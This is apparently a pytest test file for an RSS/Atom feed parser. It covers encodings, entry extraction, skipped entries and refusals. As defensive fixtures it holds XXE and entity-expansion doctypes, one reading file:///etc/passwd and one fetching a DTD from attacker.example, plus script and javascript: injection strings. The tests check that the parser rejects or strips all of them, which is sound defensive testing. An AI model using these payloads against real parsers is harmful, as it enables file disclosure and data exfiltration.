"""parse_feed over real captured feeds and over the edge cases that matter to the pipeline."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import pytest

from communique.errors import ParseError
from communique.feeds.entries import MAX_KEY_CHARS, body_fingerprint, entries_fingerprint, html_to_text
from communique.feeds.parsing import parse_feed
from tests.support.corpora import corpus
from tests.support.paths import FIXTURES

FEEDS = corpus("feeds")
FEED_FIXTURES = FIXTURES / "feeds"
URL = "https://news.example/world/rss.xml"


def rss(items: str, *, head: str = '<?xml version="1.0" encoding="utf-8"?>', channel: str = "") -> bytes:
    return (
        f'{head}<rss version="2.0"><channel><title>World &amp; more</title><link>https://news.example/</link>'
        f"<language>en-gb</language>{channel}{items}</channel></rss>"
    ).encode()


def _manifest() -> list[dict[str, str]]:
    with (FEEDS / "MANIFEST.tsv").open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle, delimiter="\t"))


# --- the real corpus ---------------------------------------------------------------------------------


@pytest.mark.parametrize("row", _manifest(), ids=lambda row: row["file"])
def test_real_feeds_parse_into_clean_entries(row: dict[str, str]) -> None:
    parsed = parse_feed((FEEDS / row["file"]).read_bytes(), url=URL, content_type="application/rss+xml")
    assert len(parsed.entries) + len(parsed.skipped) == int(row["items"])
    assert parsed.version
    keys = [e.entry_key for e in parsed.entries]
    assert len(keys) == len(set(keys))
    for entry in parsed.entries:
        assert entry.feed_url == URL
        assert entry.url.startswith(("http://", "https://"))
        assert entry.entry_key
        assert "<" not in entry.title or "<" in entry.title.replace("<", "")  # no markup left behind
        assert "</" not in entry.summary and "<p>" not in entry.summary and "<img" not in entry.summary
        assert entry.published_at is None or entry.published_at.tzinfo == UTC
        assert "\ufffd" not in entry.title or row["file"] == "feedrs__rss_2.0_ilmessaggero.xml"


def test_guardian_details() -> None:
    parsed = parse_feed((FEEDS / "rssparser__guardian.rss").read_bytes(), url="https://www.theguardian.com/world/rss")
    assert parsed.title == "The Guardian"
    first = parsed.entries[0]
    assert first.title.startswith("Trump State of the Union address")
    assert first.url.startswith("https://www.theguardian.com/")
    assert first.published_at == datetime(2018, 1, 31, 7, 26, 5, tzinfo=UTC)
    assert first.authors  # dc:creator
    assert first.summary and "<" not in first.summary


@pytest.mark.parametrize(
    ("name", "word"),
    [
        ("nodefp__iconv.xml", "Бузулуке"),
        ("miniflux__golem_ISO-8859-1.xml", "wünschen"),
        ("rssparser__jn_encoding.rss", "Mãe"),
        ("miniflux__no_encoding_ISO-8859-1.xml", "être"),
    ],
)
def test_legacy_encodings_come_out_right(name: str, word: str) -> None:
    parsed = parse_feed((FEEDS / name).read_bytes(), url=URL)
    assert any(word in e.title or word in e.summary for e in parsed.entries)


# --- entries -------------------------------------------------------------------------------------------


def test_entry_fields() -> None:
    items = (
        "<item><title>Ministers &lt;b&gt;meet&lt;/b&gt; in Geneva</title>"
        "<link>/world/2026/01/05/geneva-talks</link>"
        '<guid isPermaLink="false">story-1</guid>'
        "<pubDate>Mon, 05 Jan 2026 10:30:00 +0200</pubDate>"
        "<author>desk@news.example (Jane Doe)</author>"
        "<description>&lt;p&gt;Talks &amp;amp; more.&lt;script&gt;alert(1)&lt;/script&gt;"
        "&lt;style&gt;p{}&lt;/style&gt;&lt;/p&gt;</description></item>"
    )
    parsed = parse_feed(rss(items), url=URL, content_type="application/rss+xml; charset=utf-8")
    assert (parsed.title, parsed.link, parsed.language, parsed.version) == (
        "World & more",
        "https://news.example/",
        "en-gb",
        "rss20",
    )
    (entry,) = parsed.entries
    assert entry.entry_key == "story-1"
    assert entry.url == "https://news.example/world/2026/01/05/geneva-talks"
    assert entry.title == "Ministers meet in Geneva"
    assert entry.summary == "Talks & more."
    assert entry.published_at == datetime(2026, 1, 5, 8, 30, tzinfo=UTC)
    assert entry.authors == ("Jane Doe",)
    assert parsed.skipped == [] and parsed.bozo_reason is None
    assert parsed.reader == "rss"


def test_atom_entries_use_id_alternate_link_and_content() -> None:
    atom = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://agency.example/en/">
  <title type="html">Agency &lt;i&gt;wire&lt;/i&gt;</title>
  <entry>
    <id>tag:agency.example,2026:1</id>
    <title type="text">Summit: 3 &lt; 5 agreed</title>
    <link rel="enclosure" href="https://cdn.agency.example/photo.jpg"/>
    <link rel="alternate" href="news/summit"/>
    <updated>2026-01-05T10:00:00Z</updated>
    <author><name>A. Writer</name></author><author><name>B. Writer</name></author>
    <content type="html">&lt;p&gt;Full &lt;em&gt;text&lt;/em&gt;&lt;/p&gt;</content>
  </entry>
</feed>"""
    parsed = parse_feed(atom, url="https://agency.example/feed.atom")
    (entry,) = parsed.entries
    assert parsed.title == "Agency wire" and parsed.version == "atom10"
    assert entry.entry_key == "tag:agency.example,2026:1"
    assert entry.url == "https://agency.example/en/news/summit"
    assert entry.title == "Summit: 3 < 5 agreed"  # plain text stays text
    assert entry.summary == "Full text"
    assert entry.published_at == datetime(2026, 1, 5, 10, 0, tzinfo=UTC)
    assert entry.authors == ("A. Writer", "B. Writer")


def test_unusable_entries_are_skipped_with_reasons() -> None:
    items = (
        "<item><title>no link</title><guid isPermaLink='false'>k1</guid></item>"
        "<item><title>script</title><link>javascript:alert(1)</link></item>"
        "<item><title>mail</title><link>mailto:desk@news.example</link></item>"
        "<item><title>ok</title><link>https://news.example/a</link></item>"
        "<item><title>again</title><link>https://news.example/a</link></item>"
        "<item><title>guid link</title><guid>https://news.example/b</guid></item>"
    )
    parsed = parse_feed(rss(items), url=URL)
    assert [(s.index, s.reason) for s in parsed.skipped] == [
        (0, "no_link"),
        (1, "non_http_link"),
        (2, "non_http_link"),
        (4, "duplicate_key"),
    ]
    assert [e.url for e in parsed.entries] == ["https://news.example/a", "https://news.example/b"]


def test_overlong_keys_are_hashed() -> None:
    guid = "x" * (MAX_KEY_CHARS + 1)
    parsed = parse_feed(
        rss(f"<item><guid isPermaLink='false'>{guid}</guid><link>https://n.example/1</link></item>"), url=URL
    )
    assert parsed.entries[0].entry_key.startswith("sha256:") and len(parsed.entries[0].entry_key) == 71


def test_an_ill_formed_but_usable_feed_keeps_its_entries_and_says_why() -> None:
    broken = rss("<item><title>Talks & tea</title><link>https://news.example/1</link></item>")  # bare &
    parsed = parse_feed(broken, url=URL)
    assert [e.title for e in parsed.entries] == ["Talks & tea"]
    assert parsed.bozo_reason and "SAXParseException" in parsed.bozo_reason


def test_a_feed_without_items_is_a_feed() -> None:
    parsed = parse_feed(rss(""), url=URL)
    assert parsed.entries == [] and parsed.title == "World & more"


# --- refusals ------------------------------------------------------------------------------------------


def refusal(content: bytes, content_type: str | None = None) -> ParseError:
    with pytest.raises(ParseError) as caught:
        parse_feed(content, url=URL, content_type=content_type)
    return caught.value


@pytest.mark.parametrize("content", [b"", b"   \n\t ", b"<!-- nothing but a comment -->"])
def test_empty_documents(content: bytes) -> None:
    assert refusal(content).reason == "empty"


def test_html_served_as_a_feed_is_refused_with_the_feeds_it_advertises() -> None:
    page = (FEED_FIXTURES / "html_page_with_feed_links.html").read_bytes()
    error = refusal(page, "application/rss+xml")
    assert error.reason == "html_not_feed"
    assert "https://news.example/world/rss.xml" in str(error)
    assert "https://news.example/atom.xml" in str(error)


def test_xhtml_is_refused_too() -> None:
    xhtml = b'<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x"><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'
    assert refusal(xhtml).reason == "html_not_feed"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b'<?xml version="1.0"?><catalog><book>1</book></catalog>', "not_a_feed"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": []}', "not_a_feed"),
        (b"just some text, no markup", "empty"),
    ],
)
def test_non_feeds(content: bytes, reason: str) -> None:
    assert refusal(content).reason == reason


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
        '<!doctype rss [<!entity lower "case">]>',
    ],
)
def test_entity_declarations_are_refused_before_parsing(doctype: str) -> None:
    items = "<item><title>&b;&xxe;</title><link>https://news.example/1</link></item>"
    error = refusal(rss(items, head=f'<?xml version="1.0"?>{doctype}'))
    assert error.reason == "entity_declaration"


def test_an_entity_mentioned_inside_cdata_or_a_comment_is_only_text() -> None:
    items = (
        '<!-- <!ENTITY not "real"> -->'
        "<item><title>XML tips</title><link>https://news.example/1</link>"
        "<description><![CDATA[Never write "
        '<!ENTITY x SYSTEM "file:///etc/passwd"> in a feed]]></description></item>'
    )
    parsed = parse_feed(rss(items), url=URL)
    assert parsed.entries[0].summary.startswith("Never write")


def test_an_external_dtd_reference_is_dropped_not_fetched() -> None:
    head = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    parsed = parse_feed(rss("<item><title>ok</title><link>https://news.example/1</link></item>", head=head), url=URL)
    assert [e.title for e in parsed.entries] == ["ok"]


# --- helpers -------------------------------------------------------------------------------------------


def test_extension_elements_and_inline_markup_are_read() -> None:
    items = (
        "<item><title>Geo</title><link>https://news.example/geo</link>"
        '<georss:point xmlns:georss="http://www.georss.org/georss">46.2 6.1</georss:point></item>'
        "<item><title>Inline</title><link>https://news.example/inline</link>"
        "<description>Plain <b>inline</b> markup</description></item>"
    )
    parsed = parse_feed(rss(items), url=URL)
    assert parsed.bozo_reason is None
    assert [e.summary for e in parsed.entries] == ["", "Plain inline markup"]


def test_html_to_text() -> None:
    assert html_to_text("<p>One<br>two</p><script>x()</script><style>p{}</style> &amp; three") == "One two & three"
    assert html_to_text("  plain\n text  ") == "plain text"
    assert html_to_text("<p>" + "word " * 2000 + "</p>", limit=20) == "word word word word"


def test_fingerprints() -> None:
    one = rss(
        "<item><title>a</title><link>https://n.example/1</link></item><item><title>b</title><link>https://n.example/2</link></item>"
    )
    swapped = rss(
        "<item><title>b</title><link>https://n.example/2</link></item><item><title>a</title><link>https://n.example/1</link></item>",
        channel="<lastBuildDate>Mon, 05 Jan 2026 10:00:00 GMT</lastBuildDate>",
    )
    assert body_fingerprint(one) == body_fingerprint(one) != body_fingerprint(swapped)
    first, second = parse_feed(one, url=URL), parse_feed(swapped, url=URL)
    assert entries_fingerprint(first.entries) == entries_fingerprint(second.entries)
    assert entries_fingerprint(first.entries[:1]) != entries_fingerprint(first.entries)
